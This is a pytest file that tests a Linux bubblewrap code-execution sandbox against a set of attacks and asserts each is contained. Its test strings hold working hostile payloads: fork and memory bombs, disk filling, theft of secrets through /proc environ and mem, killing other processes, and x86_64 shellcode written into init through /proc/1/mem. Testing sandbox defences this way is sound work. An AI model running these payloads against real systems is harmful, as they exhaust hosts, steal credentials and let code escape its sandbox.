"""Real attacks on the isolated sandbox (mode ``bwrap``): resources and escapes.

Every case asserts that the attack is contained, that the caller lives on (this process, and a
stand-in "caller" process the attack aims at), and that nothing of the run is left running.
Where mode ``process`` does not hold, a contrast case shows the same attack getting through
there, so the check itself is known to catch an escape.

Judge attacks (on the code-execution reward) are in ``test_code_execution.py``.
"""

from __future__ import annotations

import contextlib
import json
import os
import platform
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from rk_agent.sandbox import (
    SandboxLimits,
    SandboxMode,
    SandboxResult,
    SandboxStatus,
    process_limit_backend,
    run_python,
)
from rk_agent.sandbox._process_limits import cgroup_controllers
from tests.sandbox.support import (
    alive,
    assert_nothing_left,
    caller_result,
    marker,
    needs_bwrap,
    processes_with,
    unprivileged_caller,
)

pytestmark = [
    pytest.mark.skipif(sys.platform != "linux", reason="the sandbox targets Linux"),
    needs_bwrap,
]

LIMITS = SandboxLimits(timeout_s=3, memory_mb=256, max_processes=32, max_disk_mb=32)


def _attack(code: str, limits: SandboxLimits = LIMITS, **kwargs: object) -> SandboxResult:
    """Run ``code`` isolated with a marker in its environment; check nothing is left after."""
    token = marker()
    result = run_python(code, limits=limits, env={"RK_MARK": token}, **kwargs)  # type: ignore[arg-type]
    assert_nothing_left(token)
    assert run_python("print('still fine')").stdout == "still fine\n"  # the caller lives on
    return result


@pytest.fixture
def victim() -> Iterator[subprocess.Popen[bytes]]:
    """A stand-in for the caller: a process of ours with a secret in its environment."""
    secret = f"sk-caller-secret-{marker()}"
    proc = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(120)"],
        env={"CALLER_API_KEY": secret, "PATH": os.environ.get("PATH", "")},
    )
    proc.secret = secret  # type: ignore[attr-defined]
    yield proc
    proc.kill()
    proc.wait()


# --------------------------------------------------------------------------------------------
# Resource attacks


def test_infinite_loop() -> None:
    result = _attack("while True:\n    pass")
    assert result.status is SandboxStatus.TIMEOUT


def test_loop_that_catches_every_signal() -> None:
    code = (
        "import signal\nfor s in range(1, 65):\n    try:\n"
        "        signal.signal(s, lambda *a: None)\n    except (OSError, ValueError):\n"
        "        pass\nwhile True:\n    pass"
    )
    result = _attack(code)
    assert result.status is SandboxStatus.TIMEOUT  # SIGXCPU caught: the hard limit or SIGKILL


@pytest.mark.skipif(process_limit_backend() == "none", reason="no process cap works here")
def test_fork_bomb() -> None:
    code = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
    result = _attack(code, SandboxLimits(timeout_s=2, max_processes=16))
    assert result.status in (SandboxStatus.TIMEOUT, SandboxStatus.ERROR, SandboxStatus.KILLED)


def test_memory_bomb() -> None:
    result = _attack("x = []\nwhile True:\n    x.append(bytearray(10**7))")
    assert result.status is SandboxStatus.MEMORY


@pytest.mark.skipif("memory" not in cgroup_controllers(), reason="no memory cgroup here")
def test_many_children_each_under_the_limit_hit_the_run_limit() -> None:
    """8 children of 150 MiB each, every one under the 256 MiB per-process limit: 1.2 GB in
    all, which the run's memory cgroup (256 + 32 MiB) does not allow."""
    code = (
        "import os, time\nkids = []\nfor _ in range(8):\n    pid = os.fork()\n"
        "    if pid == 0:\n        block = bytearray(150 * 2**20)\n"
        "        for i in range(0, len(block), 4096):\n            block[i] = 1\n"
        "        time.sleep(30)\n        os._exit(0)\n    kids.append(pid)\n"
        "time.sleep(2)\nalive = sum(1 for k in kids if os.waitpid(k, os.WNOHANG) == (0, 0))\n"
        "print('children holding their memory:', alive)"
    )
    result = _attack(code, SandboxLimits(timeout_s=5, memory_mb=256, max_disk_mb=32))
    held = [line for line in result.stdout.splitlines() if line.startswith("children holding")]
    assert held != ["children holding their memory: 8"]
    assert result.status is not SandboxStatus.OK or int(held[0].rsplit(" ", 1)[1]) <= 1


def test_one_gigabyte_print() -> None:
    result = _attack("import sys\nfor _ in range(10**6):\n    sys.stdout.write('x' * 1000)")
    assert result.status is SandboxStatus.OUTPUT_LIMIT
    assert len(result.stdout) == LIMITS.max_output_bytes


def test_disk_filling_with_big_files_stops_at_the_work_dir_cap() -> None:
    code = (
        "written = 0\ntry:\n    for i in range(1000):\n"
        "        with open(f'f{i}', 'wb') as f:\n            f.write(b'x' * 4 * 2**20)\n"
        "        written += 4\nexcept OSError as exc:\n    print(type(exc).__name__, exc.errno)\n"
        "print('MiB written:', written)"
    )
    result = _attack(code)
    assert "OSError 28" in result.stdout  # ENOSPC: the 32 MiB tmpfs is full
    assert int(result.stdout.rsplit(" ", 1)[1]) <= 32


def test_disk_filling_with_many_files_is_bounded() -> None:
    code = (
        "n = 0\ntry:\n    while True:\n        open(f'f{n}', 'w').close()\n        n += 1\n"
        "except OSError as exc:\n    print('stopped by', exc.errno)\n"
    )
    result = _attack(code, SandboxLimits(timeout_s=3, memory_mb=256, max_disk_mb=32))
    # Contained by the memory cgroup (inodes count), the tmpfs, or at worst the time limit.
    assert result.status in (SandboxStatus.OK, SandboxStatus.TIMEOUT, SandboxStatus.MEMORY,
                             SandboxStatus.KILLED)  # fmt: skip
    after = run_python("import os\nprint(len(os.listdir()))")
    assert after.stdout == "1\n"  # the next run starts with only its solution.py


def test_writing_files_outside_the_work_dir(tmp_path: Path) -> None:
    targets = ["/usr/rk-pwned", "/etc/rk-pwned", "/rk-pwned", "/proc/rk-pwned", "/dev/rk-pwned",
               str(Path(sys.prefix) / "rk-pwned"), str(Path.cwd() / "rk-pwned"),
               str(tmp_path / "rk-pwned"), str(Path.home() / "rk-pwned")]  # fmt: skip
    code = (
        f"written = []\nfor path in {targets!r}:\n    try:\n"
        "        open(path, 'w').write('x')\n        written.append(path)\n"
        "    except OSError:\n        pass\nprint(written)"
    )
    result = _attack(code)
    # Nothing, not even inside: the root and /dev are read-only once the sandbox is set up.
    assert result.status is SandboxStatus.OK
    assert result.stdout == "[]\n"
    assert [t for t in targets if Path(t).exists()] == []


# --------------------------------------------------------------------------------------------
# Without per-run cgroups (a non-root user on cgroup v2 without delegation): what must hold
# still, with the seccomp filter, the read-only root and the run's own init instead. The caller
# is such a user for real (`unprivileged_caller`): the sandbox finds no cgroup it may create.


@pytest.fixture(params=["cgroups", "no cgroups"])
def contained(request: pytest.FixtureRequest) -> Any:
    """Runs ``code`` with this machine's per-run cgroups, or from a caller that has none."""

    def play(code: str, limits: SandboxLimits = LIMITS) -> SandboxResult:
        if request.param == "cgroups":
            return _attack(code, limits)
        token = marker()
        command = unprivileged_caller(code, limits.model_dump_json(), token)
        done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True)
        result = SandboxResult.model_validate(caller_result(done.stdout))
        assert_nothing_left(token)
        return result

    return play


# A daemon the marker finds: it carries the run's environment (``RK_MARK``) into an exec.
DAEMON = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve("/bin/sleep", ["sleep", "600"], os.environ)
    os._exit(0)
"""

PTRACE_INIT = (
    r"""
import ctypes, errno, os, time
libc = ctypes.CDLL(None, use_errno=True)
said = []
for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE on the namespace's init
    r = libc.ptrace(ctypes.c_long(request), 1, None, None)
    said.append("attached" if r == 0 else errno.errorcode[ctypes.get_errno()])
"""
    + DAEMON
    + "print(*said)\n"
)


def test_ptrace_on_the_init_is_refused_and_no_daemon_outlives_the_run(contained: Any) -> None:
    result = contained(PTRACE_INIT)
    assert result.status is SandboxStatus.OK
    assert result.stdout == "EPERM EPERM\n"  # the seccomp filter


# The namespace's init, rewritten through /proc/1/mem (same uid; the filter refuses ptrace, not
# this): code at its pc clears its parent-death signal, so that it, and a daemon with it,
# outlive the run's end and the caller's death where no cgroup kills them (issue 38).
REWRITE_INIT = (
    r"""
import errno, os, time
# x86_64: prctl(PR_SET_PDEATHSIG, 0), then pause() for ever.
CODE = bytes.fromhex("b89d000000" "bf01000000" "31f6" "0f05" "b822000000" "0f05" "ebf7")
try:
    mem = open("/proc/1/mem", "r+b", buffering=0)
except OSError as exc:
    print("refused", errno.errorcode[exc.errno], flush=True)
else:
    pc = int(open("/proc/1/syscall").read().split()[-1], 16)  # init waits in wait4()
    mem.seek(pc)
    mem.write(CODE)
    mem.close()
    if os.fork() == 0:  # an orphan's exit returns init from its wait, into the new code
        if os.fork() == 0:
            time.sleep(0.1)
        os._exit(0)
    time.sleep(0.5)
    print("rewrote init:", open("/proc/1/syscall").read().split()[0], flush=True)
"""
    + DAEMON
)


def test_the_init_cannot_be_rewritten_and_no_daemon_outlives_the_run() -> None:
    token = marker()
    limits = LIMITS.model_copy(update={"timeout_s": 5})
    command = unprivileged_caller(REWRITE_INIT, limits.model_dump_json(), token)
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True)
    result = SandboxResult.model_validate(caller_result(done.stdout))
    assert_nothing_left(token)
    assert result.stdout == "refused EACCES\n", result
    assert result.status is SandboxStatus.OK


def test_the_init_cannot_be_rewritten_and_no_daemon_outlives_a_killed_caller() -> None:
    token = marker()
    limits = LIMITS.model_copy(update={"timeout_s": 30})
    code = REWRITE_INIT + "time.sleep(60)\n"
    command = unprivileged_caller(code, limits.model_dump_json(), token)
    caller = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 60
        while not _daemons(token) and time.monotonic() < deadline:
            assert caller.poll() is None, caller.communicate()
            time.sleep(0.05)
        assert _daemons(token), "the run's daemon never started"
    finally:
        caller.kill()  # SIGKILL: no exit hook runs, nothing of the caller cleans up
        caller.communicate(timeout=30)
    assert_nothing_left(token)


# The second lock: an init rewritten anyway (here by root, from outside: what no program in the
# sandbox can do) still dies when the run ends, killed by its host pid.
ORPHANS = (
    "import os, time\n"
    + DAEMON
    + """
for _ in range(40):  # orphans whose exits return the init from its wait (for 8 s)
    if os.fork() == 0:
        if os.fork() == 0:
            time.sleep(0.05)
        os._exit(0)
    time.sleep(0.2)
"""
)
SHELLCODE = bytes.fromhex("b89d000000bf0100000031f60f05b8220000000f05ebf7")  # REWRITE_INIT's


@pytest.mark.skipif(os.geteuid() != 0, reason="rewriting the init from outside needs root")
@pytest.mark.skipif(platform.machine() != "x86_64", reason="the rewrite is x86_64 code")
def test_an_init_rewritten_from_outside_still_dies_with_the_run() -> None:
    token = marker()
    limits = LIMITS.model_copy(update={"timeout_s": 12})
    command = unprivileged_caller(ORPHANS, limits.model_dump_json(), token)
    caller = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not _daemons(token) and time.monotonic() < deadline:
            time.sleep(0.02)
        daemon = min(_daemons(token))
        while _namespace_pid(init := _parent(daemon)) != 1:  # once its parent left: the init
            assert time.monotonic() < deadline, "the daemon never passed to the init"
            time.sleep(0.02)
        with Path(f"/proc/{init}/mem").open("r+b", buffering=0) as mem:
            mem.seek(int(Path(f"/proc/{init}/syscall").read_text().split()[-1], 16))
            mem.write(SHELLCODE)
        while Path(f"/proc/{init}/syscall").read_text().split()[0] != "34":  # in pause()
            assert time.monotonic() < deadline, "the rewritten init never ran"
            time.sleep(0.02)
        out, _ = caller.communicate(timeout=60)
    finally:
        caller.kill()
        caller.communicate()
    result = SandboxResult.model_validate(caller_result(out))
    assert result.status is SandboxStatus.TIMEOUT  # the init never reported the program's end
    assert_nothing_left(token)
    assert not alive(init)


def _daemons(token: str) -> list[int]:
    """The run's `DAEMON` processes (the caller's command line holds the token too)."""
    found = []
    for pid in processes_with(token):
        with contextlib.suppress(OSError):
            if Path(f"/proc/{pid}/comm").read_text().strip() == "sleep":
                found.append(pid)
    return found


def _parent(pid: int) -> int:
    return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])


def _namespace_pid(pid: int) -> int:
    """``pid``'s number in its own PID namespace (0: it is gone)."""
    try:
        line = Path(f"/proc/{pid}/status").read_text().split("NSpid:")[1].split("\n")[0]
        return int(line.split()[-1])
    except OSError:
        return 0


def test_the_work_dir_cap_bounds_what_a_run_stores(contained: Any) -> None:
    code = (
        "import json\nwritten = {}\nfor path in ('/dev/shm/f', '/f', '/etc/f', '/var/f', "
        "'/root/f', '/tmp/f', '/sandbox/g'):\n    n, error = 0, None\n    try:\n"
        "        with open(path, 'wb') as f:\n            for _ in range(64):\n"
        "                f.write(b'x' * 2**20)\n                f.flush()\n"
        "                n += 1\n    except OSError as exc:\n        error = exc.errno\n"
        "    written[path] = [n, error]\nprint(json.dumps(written))"
    )
    result = contained(code)
    written = json.loads(result.stdout)
    for path in ("/dev/shm/f", "/f", "/etc/f", "/var/f", "/root/f"):
        assert written[path][0] == 0 and written[path][1] in (2, 30), (
            path,
            written,
        )  # ENOENT, EROFS
    assert sum(n for n, _ in written.values()) <= LIMITS.max_disk_mb  # /tmp is the work dir


# --------------------------------------------------------------------------------------------
# Escape attacks


def test_reading_environment_keys(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-live-abc123")
    result = _attack("import os\nprint(dict(os.environ))")
    assert "sk-live-abc123" not in result.stdout


@pytest.mark.parametrize("mode", list(SandboxMode))
def test_reading_the_callers_environ_and_memory(
    mode: SandboxMode, victim: subprocess.Popen[bytes]
) -> None:
    secret: str = victim.secret  # type: ignore[attr-defined]
    code = (
        f"import os\nfound = []\nfor pid in ({victim.pid}, os.getppid(), 1, {os.getpid()}):\n"
        "    for name in ('environ', 'cmdline'):\n        try:\n"
        "            found.append(open(f'/proc/{pid}/{name}', 'rb').read())\n"
        "        except OSError:\n            pass\n"
        "    try:\n        maps = open(f'/proc/{pid}/maps').read().splitlines()\n"
        "        mem = open(f'/proc/{pid}/mem', 'rb')\n"
        "        for line in maps:\n            if '[stack]' in line:\n"
        "                lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "                mem.seek(lo)\n                found.append(mem.read(hi - lo))\n"
        "    except OSError:\n        pass\nprint(b''.join(found).decode('latin-1'))"
    )
    result = run_python(code, limits=LIMITS, sandbox=mode)
    assert alive(victim.pid)
    if mode is SandboxMode.BWRAP:
        assert secret not in result.stdout
    else:
        assert secret in result.stdout  # what the process mode gives up


def test_files_under_the_callers_home(tmp_path: Path) -> None:
    secret = f"home-secret-{marker()}"
    home_file = Path.home() / f".rk-sandbox-test-{marker()}"
    home_file.write_text(secret)
    (tmp_path / "key.txt").write_text(secret)
    try:
        code = (
            f"import os\nfor path in ({str(home_file)!r}, {str(tmp_path / 'key.txt')!r}, "
            f"{str(Path.cwd() / 'pyproject.toml')!r}):\n    try:\n"
            "        print(open(path).read())\n    except OSError as exc:\n"
            "        print('denied', type(exc).__name__)\n"
            f"print(sorted(os.listdir({str(Path.home())!r})))"
        )
        result = _attack(code)
        assert secret not in result.stdout
        assert result.stdout.count("denied FileNotFoundError") == 3
        assert home_file.name not in result.stdout  # the home is not there to list
        assert "[project]" not in result.stdout
        contrast = run_python(code, sandbox="process")
        assert secret in contrast.stdout
    finally:
        home_file.unlink()


@pytest.fixture
def loopback_server() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 recording what each connection sends."""
    server = socket.create_server(("127.0.0.1", 0))
    received: list[bytes] = []

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(100))
                except OSError:
                    received.append(b"")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    server.close()
    thread.join(timeout=5)


@pytest.mark.parametrize("mode", list(SandboxMode))
@pytest.mark.slow  # waits out a connection timeout: ~5 s
def test_network_to_a_loopback_server(
    mode: SandboxMode, loopback_server: tuple[int, list[bytes]]
) -> None:
    port, received = loopback_server
    code = (
        "import socket\ntry:\n"
        f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
        "    s.sendall(b'exfiltrated')\n    s.close()\n    print('connected')\n"
        "except OSError as exc:\n    print('blocked', exc.errno)"
    )
    result = run_python(code, limits=LIMITS, sandbox=mode)
    if mode is SandboxMode.BWRAP:
        assert result.stdout.startswith("blocked")
        assert received == []
    else:
        assert result.stdout == "connected\n"  # what the process mode gives up


@pytest.mark.parametrize("mode", list(SandboxMode))
def test_killing_the_parent_and_the_caller(
    mode: SandboxMode, victim: subprocess.Popen[bytes]
) -> None:
    # In mode process the parent *is* this test process: only the stand-in is aimed at there.
    targets = "(os.getppid(), VICTIM)" if mode is SandboxMode.BWRAP else "(VICTIM,)"
    code = (
        f"import os, signal\nfor pid in {targets.replace('VICTIM', str(victim.pid))}:\n"
        "    try:\n        os.kill(pid, signal.SIGKILL)\n        print('killed', pid)\n"
        "    except OSError as exc:\n        print('refused', pid, exc.errno)\n"
        + ("try:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n"
           if mode is SandboxMode.BWRAP else "")
    )  # fmt: skip
    token = marker()
    result = run_python(code, limits=LIMITS, sandbox=mode, env={"RK_MARK": token})
    assert_nothing_left(token)
    if mode is SandboxMode.BWRAP:
        assert alive(victim.pid)
        assert f"refused {victim.pid} 3" in result.stdout  # ESRCH: not in its PID namespace
        # Its "parent" is the run's init, which takes no signal from inside its namespace.
    else:
        victim.wait(timeout=5)
        assert victim.returncode == -signal.SIGKILL  # what the process mode gives up


def test_setsid_daemons_do_not_outlive_the_run() -> None:
    token = marker()
    code = (
        "import os, subprocess, time\nfor _ in range(3):\n    if os.fork() == 0:\n"
        "        os.setsid()\n        if os.fork() == 0:\n"
        f"            subprocess.Popen(['sleep', '600'], env={{'T': '{token}'}}, "
        "start_new_session=True)\n            time.sleep(600)\n        os._exit(0)\n"
        "time.sleep(0.3)\nprint('daemons started')"
    )
    result = run_python(code, limits=LIMITS, env={"RK_MARK": token})
    assert result.stdout == "daemons started\n"
    assert_nothing_left(token)


def test_leaving_the_cgroup() -> None:
    code = (
        "import os\nmoved = []\nfor path in ('/sys/fs/cgroup/cgroup.procs', "
        "'/sys/fs/cgroup/pids/cgroup.procs', '/sys/fs/cgroup/memory/cgroup.procs'):\n"
        "    try:\n        open(path, 'w').write(str(os.getpid()))\n        moved.append(path)\n"
        "    except OSError:\n        pass\nprint(moved)\nprint(open('/proc/self/cgroup').read())"
    )
    result = _attack(code)
    moved, *cgroups = result.stdout.split()
    assert moved == "[]"
    assert cgroups and all(line.endswith(":/") for line in cgroups)  # its namespace's root


def test_raising_limits() -> None:
    code = (
        "import resource\nfor name in ('RLIMIT_AS', 'RLIMIT_CPU', 'RLIMIT_NOFILE', "
        "'RLIMIT_FSIZE', 'RLIMIT_NPROC'):\n    r = getattr(resource, name)\n"
        "    soft, hard = resource.getrlimit(r)\n    if hard == resource.RLIM_INFINITY:\n"
        "        continue\n    try:\n        resource.setrlimit(r, (hard * 2, hard * 2))\n"
        "        print('raised', name)\n    except (ValueError, OSError):\n"
        "        print('refused', name)"
    )
    result = _attack(code)
    assert "raised" not in result.stdout
    assert result.stdout.count("refused") >= 4
